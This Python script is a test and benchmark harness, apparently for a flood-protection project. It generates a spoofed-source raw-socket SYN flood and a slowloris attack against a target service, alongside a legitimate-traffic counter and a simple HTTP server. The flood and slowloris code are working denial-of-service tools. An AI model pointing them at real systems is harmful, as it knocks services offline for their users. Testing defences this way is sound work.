#!/usr/bin/env python3
"""Hostile traffic against a legacy service, for tests/flood.rs and
bench/flood.sh. Run it inside the client's network namespace.

  flood.py syn --dst IP --port P [--src-net 10.232.0.0/16] [--rate N]
               [--duration S] [--pool N]
      SYN-only half-open connections from raw sockets (IP_HDRINCL), each
      from a spoofed source address and port of --src-net, at --rate
      packets/s (0: as fast as the machine sends). The packets are built
      once (--pool distinct 4-tuples) and sent round and round; the replies
      (SYN-ACKs) go to addresses that never answer.

  flood.py slowloris --dst IP --port P [--conns N] [--duration S] [--fat B]
      N connections that each send one byte of an endless request head a
      second, never finishing it; with --fat, B bytes of it at once first
      (heads held large by whoever reads them).

  flood.py legit --dst IP --port P [--rate N] [--duration S] [--paths K]
      Legitimate traffic: GET /item{i % K}.json?legit=i at --rate requests/s,
      each on a new connection (so each opens a flow during the attack),
      from 8 threads. Counts what was sent and what came back 200.

  flood.py serve --bind IP --port P --directory DIR
      The legacy service (and its twin): python's threaded http.server with
      a listen backlog that a few hundred connections do not overflow.

Either prints one line of JSON at the end: what it sent.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn_packet(src: bytes, dst: bytes, sport: int, dport: int, seq: int) -> bytes:
    """IPv4 + TCP SYN with an MSS option; the kernel fills the IP checksum
    and total length (IP_HDRINCL), the TCP checksum is ours."""
    options = struct.pack("!BBH", 2, 4, 1460)
    offset = (20 + len(options)) // 4
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, offset << 4, 0x02, 64240, 0, 0) + options
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0, src, dst)
    return ip + tcp


def syn_flood(args) -> dict:
    net = ipaddress.ip_network(args.src_net)
    dst = socket.inet_aton(args.dst)
    hosts = net.num_addresses - 2
    rng = random.Random(args.seed)
    packets, seen = [], set()
    while len(packets) < args.pool:
        src = net.network_address + 1 + rng.randrange(hosts)
        sport = rng.randrange(1024, 65536)
        if (src, sport) in seen:
            continue
        seen.add((src, sport))
        packets.append(syn_packet(src.packed, dst, sport, args.port, rng.getrandbits(32)))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    target = (args.dst, 0)
    sent = errors = 0
    start = time.monotonic()
    end = start + args.duration
    # Paced in bursts of 64: one clock read per burst.
    burst = 64
    i = 0
    while True:
        now = time.monotonic()
        if now >= end:
            break
        if args.rate > 0:
            due = start + sent / args.rate
            if due > now:
                time.sleep(min(due - now, end - now))
                continue
        for _ in range(burst):
            try:
                sock.sendto(packets[i], target)
                sent += 1
            except (BlockingIOError, OSError):
                errors += 1
            i += 1
            if i == len(packets):
                i = 0
    elapsed = time.monotonic() - start
    return {"syn_sent": sent, "send_errors": errors, "distinct": len(packets), "seconds": round(elapsed, 3),
            "rate": round(sent / elapsed) if elapsed else 0}


def slowloris(args) -> dict:
    head = b"GET /slow HTTP/1.1\r\nHost: slow\r\nX-Slow: "
    socks, refused = [], 0
    for _ in range(args.conns):
        s = socket.socket()
        s.settimeout(2)
        try:
            s.connect((args.dst, args.port))
            s.setblocking(False)
            s.sendall(head[:1] if not args.fat else head + b"a" * args.fat)
            socks.append(s)
        except OSError:
            refused += 1
            s.close()
    sent = len(socks)
    start = time.monotonic()
    second = 1
    while time.monotonic() - start < args.duration:
        # Byte `second` of the head, then "a" forever: never a blank line.
        byte = (head[second:second + 1] if not args.fat else b"") or b"a"
        for s in socks:
            try:
                s.send(byte)
                sent += 1
            except OSError:
                pass
        second += 1
        time.sleep(max(0.0, start + second - 1 - time.monotonic()))
    for s in socks:
        s.close()
    return {"slowloris_connections": len(socks), "connect_failed": refused, "bytes_sent": sent}


def legit(args) -> dict:
    import threading

    total = int(args.rate * args.duration)
    counts = {"legit_sent": 0, "legit_ok": 0, "legit_failed": 0}
    lock = threading.Lock()
    start = time.monotonic()

    def one(i):
        path = f"/item{i % args.paths}.json?legit={i}"
        req = f"GET {path} HTTP/1.1\r\nHost: {args.dst}:{args.port}\r\nConnection: close\r\n\r\n".encode()
        status = None
        try:
            with socket.create_connection((args.dst, args.port), timeout=5) as s:
                s.sendall(req)
                data = b""
                while chunk := s.recv(65536):
                    data += chunk
                status = int(data.split(b" ", 2)[1])
        except (OSError, ValueError, IndexError):
            pass
        with lock:
            counts["legit_sent"] += 1
            counts["legit_ok" if status == 200 else "legit_failed"] += 1

    def worker(k):
        for i in range(k, total, 8):
            due = start + i / args.rate
            time.sleep(max(0.0, due - time.monotonic()))
            one(i)

    threads = [threading.Thread(target=worker, args=(k,)) for k in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    counts["seconds"] = round(time.monotonic() - start, 3)
    return counts


def serve(args) -> dict:
    import functools
    import http.server

    class Server(http.server.ThreadingHTTPServer):
        request_queue_size = 4096

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, *_):
            pass

    handler = functools.partial(Quiet, directory=args.directory)
    Server((args.bind, args.port), handler).serve_forever()
    return {}


def main() -> int:
    parser = argparse.ArgumentParser()
    sub = parser.add_subparsers(dest="mode", required=True)
    syn = sub.add_parser("syn")
    syn.add_argument("--dst", required=True)
    syn.add_argument("--port", type=int, required=True)
    syn.add_argument("--src-net", default="10.232.0.0/16")
    syn.add_argument("--rate", type=float, default=0)
    syn.add_argument("--duration", type=float, default=3)
    syn.add_argument("--pool", type=int, default=20000)
    syn.add_argument("--seed", type=int, default=13)
    slow = sub.add_parser("slowloris")
    slow.add_argument("--dst", required=True)
    slow.add_argument("--port", type=int, required=True)
    slow.add_argument("--conns", type=int, default=200)
    slow.add_argument("--duration", type=float, default=5)
    slow.add_argument("--fat", type=int, default=0)
    ok = sub.add_parser("legit")
    ok.add_argument("--dst", required=True)
    ok.add_argument("--port", type=int, required=True)
    ok.add_argument("--rate", type=float, default=50)
    ok.add_argument("--duration", type=float, default=5)
    ok.add_argument("--paths", type=int, default=5)
    serve_ = sub.add_parser("serve")
    serve_.add_argument("--bind", required=True)
    serve_.add_argument("--port", type=int, required=True)
    serve_.add_argument("--directory", required=True)
    args = parser.parse_args()
    result = {"syn": syn_flood, "slowloris": slowloris, "legit": legit, "serve": serve}[args.mode](args)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
